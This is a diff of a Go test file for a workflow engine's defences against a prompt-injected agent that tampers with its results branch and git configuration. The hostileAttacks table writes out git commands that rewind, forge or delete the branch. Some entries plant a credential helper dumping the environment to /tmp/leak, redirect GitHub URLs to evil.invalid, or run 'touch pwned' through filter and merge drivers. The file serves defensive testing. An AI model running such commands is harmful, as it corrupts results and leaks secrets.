@@ -10,7 +10,9 @@ import (
 )
 
 // hostileWorkflow runs three items one at a time; each commits a file, and
-// the agent of item 1 also runs attack (with $B the results branch).
+// the agent of item 1 also runs attack (with $B the results branch and $E
+// the repository's git directory, which the agent finds through its
+// object alternates).
 func hostileWorkflow(r *testRepo, attack string) string {
 	return fmt.Sprintf(`
 name: hostile-agent
@@ -23,48 +25,103 @@ map:
         echo "${item.n}" > "out-${item.n}.txt"
         git add . && git commit -q -m "item ${item.n}"
         B=$PRODIGY_RESULTS_BRANCH
+        E=$(dirname "$(cat .git/objects/info/alternates)")
         if [ "${item.n}" = 1 ]; then
         %s
         fi
 `, strings.ReplaceAll(attack, "\n", "\n        "))
 }
 
-// TestHostileAgentCannotRewriteResults: an agent that rewinds, forges,
-// deletes the results branch or adds risky git configuration (real git,
-// through runner.Run, both merge modes) makes the job fail saying so,
-// with nothing to publish (no ResultsTip) and every item accounted for:
-// an item is reported merged only if its merge is on the branch the job
-// ends with, the others are pending again.
-func TestHostileAgentCannotRewriteResults(t *testing.T) {
-	for _, tc := range []struct {
-		name, attack, want string
-		// merged items whose files must be on the branch, and items
-		// that must be pending again
-		merged, pending []string
-	}{
-		{name: "rewind", attack: `git update-ref "refs/heads/$B" "$(git rev-parse "refs/heads/$B^1")"`,
-			want: "not on it", merged: []string{"item_1", "item_2"}, pending: []string{"item_0"}},
-		{name: "forge", attack: `git update-ref "refs/heads/$B" "$(echo forged | git commit-tree "refs/heads/$B^{tree}" -p "refs/heads/$B")"`,
-			want: "did not make"},
-		{name: "forge-around-own-commit", attack: `T=$(git rev-parse "refs/heads/$B")
+// hostileAttacks are what a prompt-injected agent does to the results and
+// to the engine's git: each as git commands in its own repository
+// (ownGit, the way an agent told to "run git config …" would) and by path
+// into the repository's git directory (byPath). want is the integrity
+// failure byPath must cause.
+var hostileAttacks = []struct {
+	name, ownGit, byPath, want string
+	// merged items whose files must be on the branch, and items
+	// that must be pending again (byPath)
+	merged, pending []string
+}{
+	{name: "rewind", ownGit: `git update-ref "refs/heads/$B" "$(git rev-parse "refs/heads/$B^1")"`,
+		byPath: `git --git-dir="$E" update-ref "refs/heads/$B" "$(git --git-dir="$E" rev-parse "refs/heads/$B^1")"`,
+		want:   "not on it", merged: []string{"item_1", "item_2"}, pending: []string{"item_0"}},
+	{name: "forge", ownGit: `git update-ref "refs/heads/$B" "$(echo forged | git commit-tree "refs/heads/$B^{tree}" -p "refs/heads/$B")"`,
+		byPath: `git --git-dir="$E" update-ref "refs/heads/$B" "$(echo forged | git --git-dir="$E" commit-tree "refs/heads/$B^{tree}" -p "refs/heads/$B")"`,
+		want:   "did not make"},
+	{name: "forge-around-own-commit", ownGit: `T=$(git rev-parse "refs/heads/$B")
+X=$(git rev-parse HEAD)
+F=$(echo "Merge (forged)" | git commit-tree "$(git write-tree)" -p "$T" -p "$X")
+git update-ref "refs/heads/$B" "$F"`, byPath: `T=$(git --git-dir="$E" rev-parse "refs/heads/$B")
 X=$(git rev-parse HEAD)
 git rm -q --cached out-0.txt 2>/dev/null || true
 F=$(echo "Merge (forged)" | git commit-tree "$(git write-tree)" -p "$T" -p "$X")
-git update-ref "refs/heads/$B" "$F"`, want: "did not make"},
-		{name: "delete", attack: `git update-ref -d "refs/heads/$B"`, want: "is gone"},
-		{name: "credential-helper", attack: `git config credential.helper '!f() { env > /tmp/leak; }; f'
-git config url.https://evil.invalid/.insteadOf https://github.com/`, want: "configuration gained"},
-		{name: "parent-worktree-config", attack: `git config extensions.worktreeConfig true
-P=$(git worktree list --porcelain | awk -v b="branch refs/heads/$B" '/^worktree /{w=substr($0,10)} $0==b{print w}')
+git push -q "$E" "$F:refs/forged"
+git --git-dir="$E" update-ref "refs/heads/$B" "$F"`, want: "did not make"},
+	{name: "delete", ownGit: `git update-ref -d "refs/heads/$B"`, byPath: `git --git-dir="$E" update-ref -d "refs/heads/$B"`, want: "is gone"},
+	{name: "credential-helper", ownGit: `git config credential.helper '!f() { env > /tmp/leak; }; f'
+git config url.https://evil.invalid/.insteadOf https://github.com/`, byPath: `git --git-dir="$E" config credential.helper '!f() { env > /tmp/leak; }; f'
+git --git-dir="$E" config url.https://evil.invalid/.insteadOf https://github.com/`, want: "configuration gained"},
+	{name: "parent-worktree-config", ownGit: `git config extensions.worktreeConfig true
+git config --worktree filter.evil.smudge 'touch pwned'`, byPath: `git --git-dir="$E" config extensions.worktreeConfig true
+P=$(git --git-dir="$E" worktree list --porcelain | awk -v b="branch refs/heads/$B" '/^worktree /{w=substr($0,10)} $0==b{print w}')
 git -C "$P" config --worktree filter.evil.smudge 'touch pwned'`, want: "configuration gained"},
-		{name: "merge-driver", attack: `git config merge.evil.driver 'touch pwned; cp %B %A'
-git config --add include.path /tmp/x.cfg`, want: "configuration gained"},
-	} {
+	{name: "merge-driver", ownGit: `git config merge.evil.driver 'touch pwned; cp %B %A'
+printf '* merge=evil\n' > .git/info/attributes
+git config --add include.path /tmp/x.cfg`, byPath: `git --git-dir="$E" config merge.evil.driver 'touch pwned; cp %B %A'
+git --git-dir="$E" config --add include.path /tmp/x.cfg`, want: "configuration gained"},
+}
+
+// TestHostileAgentsGitStaysInItsRepository: every attack of hostileAttacks
+// made with git in the agent's own repository (real git, through
+// runner.Run, both merge modes) changes nothing the engine sees: the job
+// completes with all three items merged, the results branch is the one
+// the job built and the repository's configuration is unchanged.
+func TestHostileAgentsGitStaysInItsRepository(t *testing.T) {
+	for _, tc := range hostileAttacks {
 		for _, mode := range []runner.MergeMode{runner.MergeTree, runner.MergeWorktree} {
 			t.Run(tc.name+"/"+string(mode), func(t *testing.T) {
 				t.Parallel()
 				r := newTestRepo(t, map[string]string{"items.json": itemsJSON(3)})
-				o, _, stderr, _ := r.options(r.workflow(hostileWorkflow(r, tc.attack)))
+				config := r.git("config", "--local", "--list")
+				o, _, stderr, _ := r.options(r.workflow(hostileWorkflow(r, "( "+tc.ownGit+"\n) || true")))
+				o.Merge = mode
+				res, err := r.run(o)
+				if err != nil || res.Status != runner.StatusCompleted || res.Successful != 3 || res.ResultsTip == "" {
+					t.Fatalf("run = %+v, %v\n%s", res, err, stderr)
+				}
+				if got := r.git("rev-parse", "refs/heads/"+res.ResultsBranch); got != res.ResultsTip {
+					t.Errorf("ResultsTip %s, branch at %s", res.ResultsTip, got)
+				}
+				files := strings.Join(r.files(res.ResultsBranch), " ")
+				for n := range 3 {
+					if !strings.Contains(files, fmt.Sprintf("out-%d.txt", n)) {
+						t.Errorf("out-%d.txt missing: %s", n, files)
+					}
+				}
+				if got := r.git("config", "--local", "--list"); got != config {
+					t.Errorf("the repository's configuration changed:\n%s\nwas\n%s", got, config)
+				}
+			})
+		}
+	}
+}
+
+// TestHostileAgentCannotRewriteResults: an agent running as the engine's
+// user that writes the repository's git directory by path — rewinds,
+// forges, deletes the results branch or adds risky git configuration
+// (real git, through runner.Run, both merge modes) — makes the job fail
+// saying so, with nothing to publish (no ResultsTip) and every item
+// accounted for: an item is reported merged only if its merge is on the
+// branch the job ends with, the others are pending again. (Agents running
+// as another user cannot write there at all.)
+func TestHostileAgentCannotRewriteResults(t *testing.T) {
+	for _, tc := range hostileAttacks {
+		for _, mode := range []runner.MergeMode{runner.MergeTree, runner.MergeWorktree} {
+			t.Run(tc.name+"/"+string(mode), func(t *testing.T) {
+				t.Parallel()
+				r := newTestRepo(t, map[string]string{"items.json": itemsJSON(3)})
+				o, _, stderr, _ := r.options(r.workflow(hostileWorkflow(r, tc.byPath)))
 				o.Merge = mode
 				res, err := r.run(o)
 				if err == nil || !errors.Is(err, runner.ErrJobFailed) || !strings.Contains(err.Error(), tc.want) {
